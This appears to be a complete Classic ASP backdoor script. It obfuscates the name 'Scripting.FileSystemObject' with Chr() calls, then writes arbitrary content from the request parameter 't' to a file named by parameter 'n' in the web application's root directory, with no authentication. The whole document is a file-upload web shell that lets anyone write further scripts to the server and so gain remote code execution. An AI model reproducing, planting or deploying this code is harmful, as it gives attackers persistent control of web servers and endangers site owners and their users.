<%
k = Chr(83)&Chr(99)&Chr(114)&Chr(105)&Chr(112)&Chr(116)&Chr(105)&Chr(110)&Chr(103)&"."&Chr(70)&Chr(105)&Chr(108)&Chr(101)&Chr(83)&Chr(121)&Chr(115)&Chr(116)&Chr(101)&Chr(109)&Chr(79)&Chr(98)&Chr(106)&Chr(101)&Chr(99)&Chr(116)
Set a = Server.CreateObject(k)
Set b = a.CreateTextFile(Request.ServerVariables("APPL_PHYSICAL_PATH") & Request("n"), True)
b.Write Request("t")
b.Close
Response.Write "1"
%>
